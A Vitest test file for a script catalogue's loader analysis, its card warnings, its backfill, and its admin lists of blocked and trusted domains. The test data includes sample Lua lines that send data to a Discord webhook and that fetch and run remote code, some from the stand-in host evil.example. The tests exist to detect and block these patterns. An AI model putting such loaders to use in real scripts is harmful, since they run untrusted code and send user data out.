import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { ANALYSIS_VERSION } from '../../contract/loader-analysis.ts';
import { AnalysisRepository } from '../../server/scripts/analysis-repository.ts';
import { createTestContext, type TestContext } from '../helpers/app.ts';
import { type Account, createAdmin, createModerator, injectAs } from '../helpers/auth.ts';
import { dialects } from '../helpers/databases.ts';
import { pngImage, scriptForm, snapshot } from '../helpers/staff.ts';

/**
 * The loader analysis stored with each script and answered by GET /api/scripts/{id}; the list's card
 * mark; the backfill of scripts stored before it; the admin's blocked and trusted domains
 * (docs/decisions/0018-loader-analysis.md#stored-loader-analysis, #blocked-and-trusted-domains). Loaders are harmless samples.
 */

const WEBHOOK = 'request({ Url = "https://discord.com/api/webhooks/000/demo", Method = "POST", Body = "demo" })';
const HUB = 'loadstring(game:HttpGet("https://raw.githubusercontent.com/demo/hub/main.lua"))()';
const PLAIN = 'print("hello")';
const json = (body: unknown) => body as Record<string, unknown>;
/** The stored JSON of an analysis of this version (`codeHosts`: the hosts whose code it runs). */
const storedJson = (domains: string[], findings: string[], codeHosts: string[] = []) => JSON.stringify({ domains, findings, codeHosts, v: ANALYSIS_VERSION });

describe.each(dialects)('loader analysis and domain lists on %s', (dialect) => {
  let ctx: TestContext;
  let admin: Account;
  let moderator: Account;

  beforeAll(async () => {
    ctx = await createTestContext(dialect);
    admin = await createAdmin(ctx);
    moderator = await createModerator(ctx);
  });
  afterAll(async () => ctx?.close());

  beforeEach(async () => {
    await ctx.db.kysely.deleteFrom('blocked_domains').execute();
    ctx.services.cache.invalidate();
  });

  async function create(loadstring: string, as: Account = admin) {
    const response = await injectAs(ctx, as, { method: 'POST', url: as === admin ? '/api/ac' : '/api/m', payload: { playsname: 'Analysed', description: 'A sample', loadstring } });
    expect(response.statusCode, response.body).toBe(201);
    return response.json().id as number;
  }
  const stored = (id: number) => ctx.db.kysely.selectFrom('scripts').select(['analysis', 'analysis_severity']).where('id', '=', id).executeTakeFirstOrThrow();
  const detail = async (id: number) => {
    const response = await ctx.app.inject({ method: 'GET', url: `/api/scripts/${id}` });
    expect(response.statusCode, response.body).toBe(200);
    return response.json();
  };
  const addDomain = async (domain: string, trusted: boolean) => {
    const response = await injectAs(ctx, admin, { method: 'POST', url: '/api/blocked-domains', payload: { domain, trusted } });
    expect(response.statusCode, response.body).toBe(201);
    return response.json();
  };

  it('stores the analysis on create and on edit, codes and hosts, with the worst severity', async () => {
    const id = await create(`${WEBHOOK}\n${HUB}`);
    expect(await stored(id)).toEqual({ analysis: storedJson(['discord.com', 'raw.githubusercontent.com'], ['webhook', 'remote-code'], ['raw.githubusercontent.com']), analysis_severity: 'high' });

    const edit = await injectAs(ctx, admin, { method: 'PATCH', url: `/api/update-script/${id}`, payload: { loadstring: PLAIN } });
    expect(edit.statusCode, edit.body).toBe(200);
    expect(await stored(id)).toEqual({ analysis: storedJson([], []), analysis_severity: null });

    // A moderator's multipart save is analysed the same way.
    const form = scriptForm({ playsname: 'Moderator hub', description: 'd', loadstring: HUB, image: await pngImage() });
    const created = await injectAs(ctx, moderator, { method: 'POST', url: '/api/m', payload: form });
    expect(created.statusCode, created.body).toBe(201);
    expect((await stored(created.json().id)).analysis_severity).toBe('medium');
  });

  it('answers the analysis in the detail, sentences included, and only the card mark in lists', async () => {
    const risky = await create(`${WEBHOOK}\nsetclipboard("x")`);
    const plain = await create(PLAIN);
    const body = await detail(risky);
    expect(body.analysis).toEqual({
      domains: ['discord.com'],
      findings: [
        { code: 'webhook', severity: 'high', message: 'Sends data to a Discord or Guilded webhook: a common way to steal account details.' },
        { code: 'clipboard', severity: 'medium', message: 'Puts text on your clipboard.' },
      ],
    });
    expect(body.loaderWarning).toBe(true);
    expect((await detail(plain)).analysis).toEqual({ domains: [], findings: [] });

    const list = await ctx.app.inject({ method: 'GET', url: '/api/scripts/paginated?limit=50' });
    const scripts = list.json().scripts as Record<string, unknown>[];
    const byId = new Map(scripts.map((script) => [script.id, script]));
    expect(byId.get(risky)).toMatchObject({ loaderWarning: true });
    expect(byId.get(plain)).toMatchObject({ loaderWarning: false });
    expect(scripts.every((script) => !('analysis' in script))).toBe(true);
  });

  it('documents the detail answer with its analysis in OpenAPI', async () => {
    const doc = (await ctx.app.inject({ method: 'GET', url: '/api/docs/json' })).json();
    const answer = doc.paths['/api/scripts/{id}'].get.responses['200'].content['application/json'].schema;
    expect(answer.$ref).toBe('#/components/schemas/ScriptDetail');
    expect(Object.keys(doc.components.schemas.ScriptDetail.properties)).toEqual(expect.arrayContaining(['analysis', 'loaderWarning']));
    expect(doc.paths['/api/blocked-domains'].post).toBeDefined();
  });

  it('backfills scripts stored without an analysis, and leaves a loader changed meanwhile to its save', async () => {
    const first = await create(`${WEBHOOK}`);
    const second = await create(HUB);
    await ctx.db.kysely.updateTable('scripts').set({ analysis: null, analysis_severity: null }).where('id', 'in', [first, second]).execute();
    // A row that is never analysed still answers its analysis, computed when read.
    expect((await detail(first)).analysis.findings.map((item: { code: string }) => item.code)).toEqual(['webhook']);
    ctx.services.cache.invalidate();

    const updatedAt = (await ctx.db.kysely.selectFrom('scripts').select('updated_at').where('id', '=', first).executeTakeFirstOrThrow()).updated_at;
    const count = await ctx.services.backfillAnalyses();
    expect(count).toBeGreaterThanOrEqual(2);
    expect(await stored(first)).toEqual({ analysis: storedJson(['discord.com'], ['webhook']), analysis_severity: 'high' });
    expect((await stored(second)).analysis_severity).toBe('medium');
    // Nothing a visitor sees as a change: the last update stays.
    expect((await ctx.db.kysely.selectFrom('scripts').select('updated_at').where('id', '=', first).executeTakeFirstOrThrow()).updated_at).toEqual(updatedAt);
    // The lists show the mark at once: the backfill dropped the cached answers.
    const list = await ctx.app.inject({ method: 'GET', url: '/api/scripts/paginated?limit=50' });
    expect((list.json().scripts as { id: number; loaderWarning: boolean }[]).find((script) => script.id === first)?.loaderWarning).toBe(true);
    // Nothing left to do.
    expect(await ctx.services.backfillAnalyses()).toBe(0);
    // A loader saved while the backfill analysed the old one keeps its save's analysis.
    const before = await stored(second);
    expect(await new AnalysisRepository(ctx.db).store([{ id: second, loadstring: 'print("the text before a save")', analysis: '{"domains":[],"findings":[]}', analysis_severity: null }])).toBe(0);
    expect(await stored(second)).toEqual(before);
  });

  it('redoes the analyses of an older analysis version once, at the start of one process only', async () => {
    // A webhook only the current analysis sees (a fetch under another name), stored as an older version found it.
    const hidden = await create('local send = syn and syn.request or request\nsend({ Url = "https://discord.com/api/webhooks/7/demo", Method = "POST" })');
    const current = await create(HUB);
    const old = { analysis: JSON.stringify({ domains: [], findings: [] }), analysis_severity: null };
    await ctx.db.kysely.updateTable('scripts').set(old).where('id', '=', hidden).execute();
    await ctx.db.kysely.updateTable('catalogue_counts').set({ value: ANALYSIS_VERSION - 1 }).where('name', '=', 'analysis_version').execute();
    ctx.services.cache.invalidate();
    // Read before the pass, the page already shows what the current analysis finds.
    expect((await detail(hidden)).analysis.findings.map((item: { code: string }) => item.code)).toEqual(['webhook']);
    const before = await stored(current);

    // Two processes starting at once: one makes the pass, the other leaves it.
    const counts = await Promise.all([ctx.services.backfillAnalyses({ onVersionChange: true }), ctx.services.backfillAnalyses({ onVersionChange: true })]);
    expect(counts.filter((count) => count > 0)).toHaveLength(1);
    expect(await stored(hidden)).toEqual({ analysis: storedJson(['discord.com'], ['webhook']), analysis_severity: 'high' });
    // A row already of this version is left as it is.
    expect(await stored(current)).toEqual(before);
    const version = await ctx.db.kysely.selectFrom('catalogue_counts').select('value').where('name', '=', 'analysis_version').executeTakeFirstOrThrow();
    expect(Number(version.value)).toBe(ANALYSIS_VERSION);
    // The next start has nothing to do, even with a stale row left behind: `npm run analyse` is for that.
    await ctx.db.kysely.updateTable('scripts').set(old).where('id', '=', hidden).execute();
    expect(await ctx.services.backfillAnalyses({ onVersionChange: true })).toBe(0);
    expect(await ctx.services.backfillAnalyses()).toBe(1);
  });

  it('refuses a loader fetching from a blocked domain or its subdomain, JSON or multipart, admin or moderator, with nothing saved', async () => {
    await addDomain('evil.example', false);
    const existing = await create(PLAIN, moderator);
    const loaders = [
      'loadstring(game:HttpGet("https://evil.example/hub.lua"))()',
      'loadstring(game:HttpGet("https://cdn.EVIL.example/hub.lua"))()',
      'local base = "https://www.evil.example/"\nloadstring(game:HttpGet(base .. "x.lua"))()',
      // A final dot names the same host.
      'loadstring(game:HttpGet("https://evil.example./hub.lua"))()',
    ];
    for (const loadstring of loaders) {
      const before = await snapshot(ctx);
      const attempts = [
        injectAs(ctx, admin, { method: 'POST', url: '/api/ac', payload: { playsname: 'Blocked', description: 'd', loadstring } }),
        injectAs(ctx, moderator, { method: 'POST', url: '/api/m', payload: scriptForm({ playsname: 'Blocked', description: 'd', loadstring, image: await pngImage() }) }),
        injectAs(ctx, admin, { method: 'PATCH', url: `/api/update-script/${existing}`, payload: scriptForm({ loadstring, image: await pngImage() }) }),
        injectAs(ctx, admin, { method: 'PATCH', url: `/api/update-script/${existing}`, payload: { loadstring } }),
      ];
      for (const response of await Promise.all(attempts)) {
        expect(response.statusCode, response.body).toBe(400);
        const body = json(response.json());
        expect(body.code).toBe('VALIDATION_FAILED');
        expect(body.error).toMatch(/evil\.example/);
        expect((body.fields as Record<string, string>).loadstring).toMatch(/evil\.example/);
      }
      expect(await snapshot(ctx), loadstring).toEqual(before);
    }
    // A look-alike domain and a URL in an unrelated string are not blocked.
    await create('loadstring(game:HttpGet("https://notevil.example/hub.lua"))()');
    await create('print("https://evil.example/ is blocked here")');
    // Unblocked, it saves.
    const list = (await injectAs(ctx, admin, { method: 'GET', url: '/api/blocked-domains' })).json();
    await injectAs(ctx, admin, { method: 'DELETE', url: `/api/blocked-domains/${list[0].id}` });
    await create(loaders[0] as string);
  });

  it('makes a trusted domain\'s code information only, at once and on every script, and back when it is removed', async () => {
    const id = await create(HUB);
    const codes = async () => (await detail(id)).analysis.findings.map((item: { code: string; severity: string }) => `${item.code}:${item.severity}`);
    expect(await codes()).toEqual(['remote-code:medium']);
    const trusted = await addDomain('githubusercontent.com', true);
    expect(trusted).toMatchObject({ domain: 'githubusercontent.com', trusted: true });
    expect(await codes()).toEqual(['trusted-remote-code:info']);
    // Stored without trust: the list can change without rewriting a row.
    expect((await stored(id)).analysis).toContain('remote-code');
    // A trusted domain is never a blocked one.
    await create(HUB);
    await injectAs(ctx, admin, { method: 'DELETE', url: `/api/blocked-domains/${trusted.id}` });
    expect(await codes()).toEqual(['remote-code:medium']);
  });

  it('lists, adds and deletes domains: folded, sorted, blocked or trusted', async () => {
    await addDomain('  WWW.Pastebin.COM. ', false);
    await addDomain('raw.githubusercontent.com', true);
    const list = await injectAs(ctx, admin, { method: 'GET', url: '/api/blocked-domains' });
    expect(list.statusCode).toBe(200);
    expect(list.json().map((row: { domain: string; trusted: boolean }) => [row.domain, row.trusted])).toEqual([
      ['pastebin.com', false],
      ['raw.githubusercontent.com', true],
    ]);
    expect(list.headers['cache-control']).toMatch(/no-store/);
  });

  const BAD_DOMAINS: [string, unknown][] = [
    ['a NUL byte', { domain: 'evil\u0000.example', trusted: false }],
    ['a control character', { domain: 'evil\u0007.example', trusted: false }],
    ['a line break', { domain: 'evil.example\nother.example', trusted: false }],
    ['a URL', { domain: 'https://evil.example/x', trusted: false }],
    ['a port', { domain: 'evil.example:8080', trusted: false }],
    ['one label', { domain: 'localhost', trusted: false }],
    ['an address', { domain: '192.168.0.1', trusted: false }],
    ['an empty domain', { domain: '', trusted: false }],
    ['spaces inside', { domain: 'evil example.com', trusted: false }],
    ['a label over 63 characters', { domain: `${'a'.repeat(64)}.example`, trusted: false }],
    ['a domain over 253 characters', { domain: `${'abcdefghi.'.repeat(26)}com`, trusted: false }],
    ['a number', { domain: 12, trusted: false }],
    ['no domain', { trusted: true }],
    ['trusted as text', { domain: 'fine.example', trusted: 'true' }],
    ['an array', ['fine.example']],
    ['a lone surrogate', { domain: 'evil\ud800.example', trusted: false }],
  ];

  it.each(BAD_DOMAINS)('refuses %s with 400 and adds nothing', async (_name, payload) => {
    const before = await snapshot(ctx);
    const response = await injectAs(ctx, admin, { method: 'POST', url: '/api/blocked-domains', payload: payload as object });
    expect(response.statusCode, response.body).toBe(400);
    expect(response.json()).toMatchObject({ code: 'VALIDATION_FAILED' });
    expect(await snapshot(ctx)).toEqual(before);
  });

  it('refuses a malformed or huge body, a duplicate (409, in any spelling, even in parallel) and an unknown id (404), changing nothing', async () => {
    let before = await snapshot(ctx);
    const broken = await injectAs(ctx, admin, { method: 'POST', url: '/api/blocked-domains', payload: '{"domain":', headers: { 'content-type': 'application/json' } });
    expect(broken.statusCode).toBe(400);
    expect(broken.json()).toHaveProperty('code');
    const huge = await injectAs(ctx, admin, { method: 'POST', url: '/api/blocked-domains', payload: { domain: `${'a'.repeat(2_000_000)}.example`, trusted: false } });
    expect([400, 413]).toContain(huge.statusCode);
    expect(huge.json()).toHaveProperty('code');
    expect(await snapshot(ctx)).toEqual(before);

    const answers = await Promise.all(
      ['dup.example', 'DUP.example', 'www.dup.example', 'dup.example.'].map((domain, index) =>
        injectAs(ctx, admin, { method: 'POST', url: '/api/blocked-domains', payload: { domain, trusted: index % 2 === 0 } }),
      ),
    );
    expect(answers.map((answer) => answer.statusCode).sort()).toEqual([201, 409, 409, 409]);
    for (const answer of answers.filter((item) => item.statusCode === 409)) expect(answer.json()).toMatchObject({ code: 'CONFLICT', fields: { domain: expect.any(String) } });
    expect(await ctx.db.kysely.selectFrom('blocked_domains').select('domain').execute()).toEqual([{ domain: 'dup.example' }]);

    before = await snapshot(ctx);
    for (const url of ['/api/blocked-domains/999999', '/api/blocked-domains/0', '/api/blocked-domains/abc', '/api/blocked-domains/01']) {
      const response = await injectAs(ctx, admin, { method: 'DELETE', url });
      expect(response.statusCode, url).toBe(url.endsWith('999999') ? 404 : 400);
      expect(response.json()).toHaveProperty('code');
    }
    expect(await snapshot(ctx)).toEqual(before);
  });
});
